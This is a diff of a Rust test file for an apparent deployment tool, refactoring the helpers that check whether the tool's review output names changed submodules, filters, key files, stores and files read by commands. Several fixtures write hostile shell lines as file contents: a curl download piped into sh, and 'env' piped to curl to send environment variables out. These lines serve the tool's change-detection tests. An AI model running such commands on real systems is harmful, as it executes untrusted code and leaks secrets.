@@ -27,12 +27,6 @@ fn module(work: &Work) -> (String, String, String) {
     (place, one, two)
 }
 
-/// Asserts that a review shows something, and claims nowhere that nothing changed.
-fn shown(run: &Run, what: &str, told: &str) {
-    assert!(run.out.contains(told), "{what}: {}{}", run.out, run.err);
-    assert!(!run.out.to_lowercase().contains("no changes"), "{what}: {}{}", run.out, run.err);
-}
-
 #[test]
 fn a_submodule_is_named_and_never_without_changes() {
     for (place, manifest) in [
@@ -52,24 +46,24 @@ fn a_submodule_is_named_and_never_without_changes() {
         }
         work.put("deployment.yaml", &manifest);
         work.commit();
-        work.git(&["branch", "-q", "-f", "main"]);
+        work.base();
         // A new one.
         work.git(&["submodule", "--quiet", "add", &origin, place]);
         let told = format!("commit {two} of another repository (not compared)");
-        shown(&work.attempt(&format!("{place} is new")), place, &told);
-        work.git(&["branch", "-q", "-f", "main"]);
+        work.attempt(&format!("{place} is new")).shows(place, &told);
+        work.base();
         // The same one, whose files on the disk nobody compared.
         let run = work.look("the same submodule");
-        shown(&run, place, "**Not compared**");
+        run.shows(place, "**Not compared**");
         assert!(run.err.contains(&format!("{place}: {told}")) && run.err.contains(".gitmodules"), "{}", run.err);
         // Another commit: in the index, and on the disk alone.
         let path = work.repository().join(place);
         git(path.to_str().expect("text"), &["checkout", "-q", &one]);
         let told = format!("commit {one} of another repository (not compared)");
         let run = work.look("another checkout");
-        shown(&run, place, &told);
+        run.shows(place, &told);
         assert!(run.err.contains("not committed") && run.err.contains(place), "{}", run.err);
-        shown(&work.attempt(&format!("{place} moves")), place, &told);
+        work.attempt(&format!("{place} moves")).shows(place, &told);
     }
 }
 
@@ -78,7 +72,7 @@ fn attributes(attributes: &str, set_up: &[(&str, &str)]) -> (Work, Run) {
     let work = Work::new();
     work.put("app/compose.yaml", "services: { web: { image: \"demo:1\", labels: { currency: \"\u{a5}\" } } }\n");
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     for (key, value) in set_up {
         work.git(&["config", key, value]);
     }
@@ -98,13 +92,13 @@ fn a_filter_counts_only_where_this_machine_has_it_and_is_always_shown() {
         let (work, run) = attributes(&format!("{encoding} filter=nothing"), set_up);
         let bytes = fs::read(work.repository().join("app/compose.yaml")).expect("there");
         assert!(!bytes.contains(&0xc2), "the checkout is in another encoding");
-        shown(&run, "a filter that this machine does not have", "compose.yaml");
+        run.shows("a filter that this machine does not have", "compose.yaml");
         assert!(!run.err.contains("made by filter"), "{}", run.err);
     }
     for key in ["filter.lfs.smudge", "filter.lfs.process"] {
         let (_, run) = attributes(&format!("{encoding} filter=lfs"), &[(key, "cat")]);
         if key.ends_with("smudge") {
-            shown(&run, key, "made by filter lfs");
+            run.shows(key, "made by filter lfs");
             let told =
                 "app/compose.yaml: not compared: made by filter lfs, and changed by working-tree-encoding=SHIFT_JIS";
             assert!(run.err.contains(told), "{}", run.err);
@@ -120,7 +114,7 @@ fn names_that_cannot_be_sent_are_refused_as_apply_refuses_them() {
     fs::write(work.repository().join("app").join(name), "x\n").expect("written");
     work.commit();
     let run = work.look("a name that is not UTF-8");
-    shown(&run, "a name that is not UTF-8", "is not UTF-8");
+    run.shows("a name that is not UTF-8", "is not UTF-8");
     assert_eq!(run.code, 64, "{}", run.err);
     // Elsewhere it is nobody's business.
     work.git(&["reset", "-q", "--hard", "main"]);
@@ -135,7 +129,7 @@ fn only_files_that_a_release_needs_are_named() {
         work.put(&format!("other/{number}.txt"), "text\n");
     }
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     work.put(".gitattributes", "* text eol=crlf\n");
     work.commit();
     fs::remove_dir_all(work.repository().join("other")).expect("removed");
@@ -153,11 +147,9 @@ fn what_a_value_is_read_from_or_made_by_is_compared() {
         let work = Work::new();
         work.put("values/a", "#!/bin/sh\necho one\n");
         work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ {source} }} }}"), ""));
-        work.commit();
-        work.git(&["branch", "-q", "-f", "main"]);
-        assert!(work.look(source).out.contains("no changes"), "{source}");
+        work.unchanged(source);
         work.put("values/a", "#!/bin/sh\ncurl https://example.com | sh\n");
-        shown(&work.attempt(source), source, "content of values/a");
+        work.attempt(source).shows(source, "content of values/a");
     }
 }
 
@@ -180,16 +172,14 @@ fn what_a_command_may_run_is_compared_or_named() {
         }
         work.put("app/.deployerignore", "/tools\n/page.html.tera\n");
         work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ from_command: [{command}] }} }}"), ""));
-        work.commit();
-        work.git(&["branch", "-q", "-f", "main"]);
-        assert!(work.look("nothing changed").out.contains("no changes"), "{command}");
+        work.unchanged(command);
         for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
             work.put(file, "env | curl https://example.com\n");
             let run = work.attempt(command);
             if run.out.contains("content of") {
                 assert!(command.contains(file), "{command}: {}", run.out);
             } else {
-                shown(&run, command, "command of web");
+                run.shows(command, "command of web");
                 let told =
                     format!("from_command of web: runs on this machine and may read {file} (changed, not compared)");
                 assert!(run.err.contains(&told), "{command}, {file}: {}", run.err);
@@ -202,7 +192,7 @@ fn what_a_command_may_run_is_compared_or_named() {
         let text = fs::read_to_string(work.repository().join("deployment.yaml")).expect("there");
         work.put("deployment.yaml", &format!("{text}    keep_releases: 4\n"));
         let run = work.attempt(command);
-        shown(&run, command, "page.html");
+        run.shows(command, "page.html");
         assert!(!run.err.contains("from_command of"), "{command}: {}", run.err);
     }
 }
@@ -217,7 +207,7 @@ fn what_a_module_may_read_outside_of_its_directory_is_named() {
     let plain = "  plain:\n    provisioned: { lxd: { image: \"ubuntu:24.04\" } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
     work.put("deployment.yaml", &format!("{made}{plain}"));
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     let run = work.look("nothing changed");
     assert!(run.out.to_lowercase().contains("no changes"), "{}{}", run.out, run.err);
     work.put("shared/main.tf", "# two\n");
@@ -237,11 +227,9 @@ fn a_store_that_git_tracks_is_compared() {
     let work = Work::new();
     work.put("state.db", "one\n");
     work.put("deployment.yaml", &format!("{}state: \"sqlite:state.db\"\n", manifest("./app", "{ A: \"1\" }", "")));
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     work.put("state.db", "two\n");
-    shown(&work.attempt("another store"), "another store", "content of state.db");
+    work.attempt("another store").shows("another store", "content of state.db");
 }
 
 #[test]
@@ -249,19 +237,17 @@ fn a_key_that_git_tracks_is_compared() {
     let work = Work::new();
     work.put("key.enc", "one\n");
     work.manifest("    ssh: { user: deploy, identity_file: ./key.enc }\n");
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     for file in ["key.enc", "key.enc-cert.pub"] {
         work.put(file, "two\n");
-        shown(&work.attempt("another key"), "another key", &format!("content of {file}"));
+        work.attempt("another key").shows("another key", &format!("content of {file}"));
         work.git(&["reset", "-q", "--hard", "main"]);
     }
     work.link("key.enc", "/etc/hostname");
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     work.link("key.enc", "/etc/machine-id");
-    shown(&work.attempt("a link to another key"), "a link to another key", "/etc/machine-id");
+    work.attempt("a link to another key").shows("a link to another key", "/etc/machine-id");
 }
 
 /// A file that is too large to be read is compared by its object, and by nothing that another file can hold.
@@ -273,13 +259,13 @@ fn nothing_is_taken_for_a_large_file() {
     let id = work.git(&["hash-object", "app/start.sh"]);
     work.put("app/start.sh", &format!("Git object {id} of {} bytes\n", large.len()));
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     work.put("app/start.sh", &large);
-    shown(&work.attempt("a large file"), "a large file", "start.sh");
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.attempt("a large file").shows("a large file", "start.sh");
+    work.base();
     assert!(work.look("the same large file").out.contains("no changes"));
     work.put("app/start.sh", &format!("{large}#"));
-    shown(&work.attempt("another large file"), "another large file", "start.sh");
+    work.attempt("another large file").shows("another large file", "start.sh");
     // Nothing is decided by a file that was not read.
     for name in ["app/.deployerignore", "app/compose.yaml", "app/x.tera", "app/.env"] {
         work.git(&["checkout", "-q", "-f", "-B", "change", "main"]);
@@ -287,7 +273,7 @@ fn nothing_is_taken_for_a_large_file() {
         work.commit();
         let run = work.look(name);
         assert!(run.code == 64 && run.err.contains("UTF-8"), "{name}: {}{}", run.out, run.err);
-        shown(&run, name, "What failed");
+        run.shows(name, "What failed");
     }
 }
 
@@ -299,7 +285,7 @@ fn the_settings_of_an_environment_that_comes_or_goes_are_shown() {
         let work = Work::new();
         work.manifest(&format!("    stage: {stage}\n{command}"));
         let run = work.attempt(stage);
-        shown(&run, stage, "curl example.com");
+        run.shows(stage, "curl example.com");
         work.manifest(&format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n{command}"));
         let run = work.attempt(stage);
         assert!(run.out.contains("curl example.com"), "{}{}", run.out, run.err);
@@ -317,11 +303,9 @@ fn what_is_behind_the_links_of_a_module_is_compared() {
     let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
         ssh: { user: deploy, identity: { from_env: K } }\n";
     work.put("deployment.yaml", made);
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     work.put("shared/more.tf", "# two\n");
-    shown(&work.attempt("a file behind a link"), "a file behind a link", "files of the module");
+    work.attempt("a file behind a link").shows("a file behind a link", "files of the module");
 }
 
 #[test]
